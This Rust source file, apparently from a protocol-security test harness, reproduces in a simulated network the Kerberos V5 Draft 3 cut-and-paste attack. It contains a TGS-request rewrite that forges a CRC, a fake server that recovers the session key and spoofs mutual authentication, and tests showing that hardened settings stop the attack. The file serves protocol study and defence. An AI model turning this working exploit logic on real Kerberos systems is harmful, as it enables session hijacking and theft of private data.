//! A9 — the ENC-TKT-IN-SKEY cut-and-paste attack (paper appendix, "Weak
//! Checksums and Cut-and-Paste Attacks").
//!
//! "The enemy intercepts this request and modifies it. First, the
//! ENC-TKT-IN-SKEY bit is set ... Second, the attacker's own
//! ticket-granting ticket is enclosed. Obviously, the attacker knows its
//! session key. Finally, the additional authorization data field is
//! filled in with whatever information is needed to make the CRC match
//! the original version. ... The client may request bidirectional
//! authentication; however, since the attacker has decrypted the ticket,
//! the session key for that service request is available. Consequently,
//! the bidirectional authentication dialog may be spoofed without
//! trouble."

use crate::env::AttackEnv;
use crate::Outcome;
use kerberos::authenticator::Authenticator;
use kerberos::client::Credential;
use kerberos::encoding::Codec;
use kerberos::enclayer::EncLayer;
use kerberos::flags::KdcOptions;
use kerberos::messages::{ApRep, ApReq, EncApRepPart, TgsReq, WireKind};
use kerberos::session::{decode_priv_draft3, encode_priv_draft3, Direction, PrivPart};
use kerberos::ticket::Ticket;
use kerberos::{ProtocolConfig};
use krb_crypto::crc32::{crc32, forge_suffix};
use krb_crypto::des::DesKey;
use krb_crypto::rng::Drbg;
use simnet::{Addr, Datagram, Endpoint, Host, ScriptedTap, Service, ServiceCtx, Verdict};
use std::cell::RefCell;
use std::rc::Rc;

/// The man-in-the-middle endpoint that impersonates the real service
/// once it has recovered the session key from the mis-encrypted ticket.
struct FakeServer {
    codec: Codec,
    layer: EncLayer,
    priv_layer: EncLayer,
    /// The attacker's TGT session key (which the forged ticket was
    /// sealed under).
    zach_session_key: DesKey,
    /// Session keys recovered per peer.
    session_key: Option<DesKey>,
    /// The victim's next sequence number (mirrored from the
    /// authenticator, for sequence-mode priv layers).
    client_seq: u64,
    rng: Drbg,
    /// Plaintext commands the victim sent, believing this is the real
    /// server.
    pub captured: Rc<RefCell<Vec<Vec<u8>>>>,
}

impl Service for FakeServer {
    fn handle(&mut self, ctx: &mut ServiceCtx, req: &[u8], _from: Endpoint) -> Option<Vec<u8>> {
        let kind = req.first().copied().and_then(WireKind::from_u8)?;
        match kind {
            WireKind::ApReq => {
                let ap = ApReq::decode(self.codec, req).ok()?;
                // The forged ticket is sealed under the attacker's TGT
                // session key — unseal it and pocket K_{c,s}.
                let t = Ticket::unseal(self.codec, self.layer, &self.zach_session_key, &ap.ticket).ok()?;
                let k = t.session_key;
                self.session_key = Some(k);
                let auth = Authenticator::unseal(self.codec, self.layer, &k, &ap.authenticator).ok()?;
                self.client_seq = auth.seq_init.unwrap_or(0);
                // Spoof the bidirectional authentication dialog.
                let part = EncApRepPart {
                    ts_echo: auth.timestamp.wrapping_add(1),
                    subkey: auth.subkey, // mirror, so negotiation degenerates
                    seq_init: auth.seq_init,
                };
                let sealed = self.layer.seal(&k, 0, &part.encode(self.codec), &mut self.rng).ok()?;
                Some(ApRep { enc_part: sealed }.encode(self.codec))
            }
            WireKind::Priv => {
                let k = self.session_key?;
                // Mirrored subkeys mean the negotiated key equals the
                // multi-session key even when subkeys are nominally on.
                // Sequence-mode layers use the mirrored sequence number
                // as the IV — the attacker tracks it like any endpoint.
                let iv = if self.priv_layer == EncLayer::HardenedCbc { self.client_seq } else { 0 };
                let pt = self.priv_layer.open(&k, iv, &req[1..]).ok()?;
                self.client_seq = self.client_seq.wrapping_add(1);
                let part = match self.priv_layer {
                    EncLayer::HardenedCbc => decode_priv_hardened_mirror(&pt).ok()?,
                    _ => decode_priv_draft3(&pt).ok()?,
                };
                self.captured.borrow_mut().push(part.data.clone());
                // Keep the victim happy with a well-formed reply. A
                // draft3-style victim accepts a timestamped reply; a
                // sequence-mode victim would need the server-side
                // sequence too (mirrored at establish time); evidence is
                // already recorded either way.
                let reply = encode_priv_draft3(&PrivPart {
                    data: b"OK".to_vec(),
                    ts_or_seq: part.ts_or_seq,
                    direction: Direction::ServerToClient,
                    addr: ctx.host_addr.0,
                });
                let sealed = self.priv_layer.seal(&k, 0, &reply, &mut self.rng).ok()?;
                Some(kerberos::messages::frame(WireKind::Priv, sealed))
            }
            _ => None,
        }
    }
}

/// Decodes the hardened priv layout ([len u32][data][ts][dir][addr]) —
/// the attacker implements the format just like any endpoint.
fn decode_priv_hardened_mirror(pt: &[u8]) -> Result<PrivPart, kerberos::KrbError> {
    use kerberos::KrbError;
    if pt.len() < 4 {
        return Err(KrbError::Decode("short"));
    }
    let len = u32::from_be_bytes(pt[..4].try_into().expect("4 bytes")) as usize;
    if 4 + len + 13 > pt.len() {
        return Err(KrbError::Decode("length out of range"));
    }
    let data = pt[4..4 + len].to_vec();
    let mut off = 4 + len;
    let ts_or_seq = u64::from_be_bytes(pt[off..off + 8].try_into().expect("8 bytes"));
    off += 8;
    let direction =
        if pt[off] == 0 { Direction::ClientToServer } else { Direction::ServerToClient };
    off += 1;
    let addr = u32::from_be_bytes(pt[off..off + 4].try_into().expect("4 bytes"));
    Ok(PrivPart { data, ts_or_seq, direction, addr })
}

/// Runs the attack against a fresh deployment under `config`.
pub fn run(config: &ProtocolConfig, seed: u64) -> Outcome {
    let mut env = AttackEnv::new(config, seed);

    // The attacker holds a perfectly ordinary TGT of its own.
    let zach_tgt: Credential = match env.login("zach") {
        Ok(t) => t,
        Err(e) => return Outcome::safe(format!("attacker login failed: {e}")),
    };

    // The attacker's fake-server host, ready before the capture
    // ("everything would be in place before the ticket-capture was
    // attempted").
    let fake_addr = Addr::new(10, 0, 66, 6);
    let captured = Rc::new(RefCell::new(Vec::new()));
    let mut fake_host = Host::new("definitely-the-file-server", vec![fake_addr]);
    fake_host.bind(
        2001,
        Box::new(FakeServer {
            codec: config.codec,
            layer: config.ticket_layer,
            priv_layer: config.priv_layer,
            zach_session_key: zach_tgt.session_key,
            session_key: None,
            client_seq: 0,
            rng: Drbg::new(seed ^ 0xfa4e),
            captured: Rc::clone(&captured),
        }),
    );
    env.net.add_host(fake_host);
    let fake_ep = Endpoint::new(fake_addr, 2001);

    // The in-path tap: (1) rewrite pat's TGS request for `files`,
    // patching the CRC; (2) redirect pat's subsequent traffic to the
    // fake server.
    let files_ep = env.realm.service_ep("files");
    let kdc_port = env.realm.kdc_ep.port;
    let codec = config.codec;
    let zach_tgt_bytes = zach_tgt.sealed_ticket.clone();
    env.net.set_tap(Box::new(ScriptedTap::new(move |d: &mut Datagram, _| {
        if d.dst.port == kdc_port && d.payload.first() == Some(&(WireKind::TgsReq as u8)) {
            if let Ok(req) = TgsReq::decode(codec, &d.payload) {
                if req.service.name == "files" {
                    let original_crc = crc32(&req.checksum_body());
                    let mut forged = req.clone();
                    forged.options = forged.options.with(KdcOptions::ENC_TKT_IN_SKEY);
                    forged.additional_ticket = Some(zach_tgt_bytes.clone());
                    // Fill authorization data so the CRC matches:
                    // encode with a 4-byte placeholder, then solve
                    // for the bytes.
                    forged.authz_data = vec![0; 4];
                    let body = forged.checksum_body();
                    let prefix = &body[..body.len() - 4];
                    forged.authz_data = forge_suffix(prefix, original_crc).to_vec();
                    debug_assert_eq!(crc32(&forged.checksum_body()), original_crc);
                    d.payload = forged.encode(codec).into();
                }
            }
        } else if d.dst == files_ep {
            // Redirect the victim's service traffic to the fake.
            d.dst = fake_ep;
        }
        Verdict::Deliver
    })));

    // The victim goes about their business: ticket for `files`, then
    // a "private" session.
    let outcome = (|| -> Result<Vec<u8>, kerberos::KrbError> {
        let tgt = env.login("pat")?;
        let st = env.ticket("pat", &tgt, "files")?;
        let mut conn = env.connect("pat", &st, "files")?;
        let mut rng = env.rng.clone();
        conn.request(&mut env.net, b"PUT diary.txt my deepest secrets", &mut rng)
    })();
    let _ = env.net.take_tap();

    let stolen = captured.borrow();
    match (&outcome, stolen.iter().any(|c| c.starts_with(b"PUT diary.txt"))) {
        (Ok(_), true) => Outcome::breach(
            "victim completed 'mutual' authentication with the attacker and sent \
             private data; session key recovered from the mis-encrypted ticket"
        ),
        (_, true) => Outcome::breach("attacker read the victim's private command"),
        (Err(e), false) => Outcome::safe(format!("attack broke the exchange instead: {e}")),
        (Ok(_), false) => Outcome::safe("victim talked to the real server; nothing captured"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn draft3_with_crc_is_owned() {
        let r = run(&ProtocolConfig::v5_draft3(), 1);
        assert!(r.succeeded, "{}", r.evidence);
    }

    #[test]
    fn v4_has_no_such_option() {
        assert!(!run(&ProtocolConfig::v4(), 1).succeeded);
    }

    #[test]
    fn hardened_is_safe() {
        assert!(!run(&ProtocolConfig::hardened(), 1).succeeded);
    }

    #[test]
    fn verdicts_unchanged_over_wire_codec() {
        // The attack is about checksums and ticket routing, not the
        // envelope — moving a preset onto the tagged wire format must
        // not change any verdict.
        let r = run(&ProtocolConfig::v5_draft3().with_wire_codec(), 1);
        assert!(r.succeeded, "{}", r.evidence);
        assert!(!run(&ProtocolConfig::v4().with_wire_codec(), 1).succeeded);
        assert!(!run(&ProtocolConfig::hardened().with_wire_codec(), 1).succeeded);
    }

    #[test]
    fn collision_proof_checksum_alone_stops_it() {
        // "If a collision-proof checksum were used, the attack would be
        // infeasible."
        let mut config = ProtocolConfig::v5_draft3();
        config.checksum = krb_crypto::checksum::ChecksumType::Md4Des;
        assert!(!run(&config, 2).succeeded);
    }

    #[test]
    fn cname_check_alone_stops_it() {
        // "The designers intended to require that the cname in the
        // additional ticket match the name of the server ... the
        // requirement was inadvertently omitted from Draft 3."
        let mut config = ProtocolConfig::v5_draft3();
        config.enforce_cname_match = true;
        assert!(!run(&config, 3).succeeded);
    }
}
